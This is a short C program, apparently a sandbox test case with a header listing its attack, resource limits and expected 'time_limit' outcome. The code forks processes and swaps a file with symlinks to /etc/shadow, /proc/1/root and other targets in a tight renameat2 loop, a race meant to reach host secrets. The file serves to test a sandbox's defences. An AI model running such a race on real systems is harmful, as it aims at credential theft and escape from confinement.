/*
 * attack: Swaps a file and a link to the host's secrets a million times a second, while and after the run ends.
 * limits: {"cpu_time_ms": 300, "wall_time_ms": 3000, "processes": 8}
 * copies: 2
 * expect: time_limit
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    static const char *const targets[] = { "/etc/shadow", "@CANARY@/open/writable", "/proc/1/root", "/dev/zero" };
    for (int i = 0; i < 3 && fork() != 0; i++)
        ;
    char link[40];
    snprintf(link, sizeof link, "/box/link%d", getpid());
    (void)symlink(targets[getpid() % 4], link);
    for (;;) {
        renameat2(AT_FDCWD, "/box/main", AT_FDCWD, link, RENAME_EXCHANGE);
        renameat2(AT_FDCWD, link, AT_FDCWD, "/box/main", RENAME_EXCHANGE);
    }
}
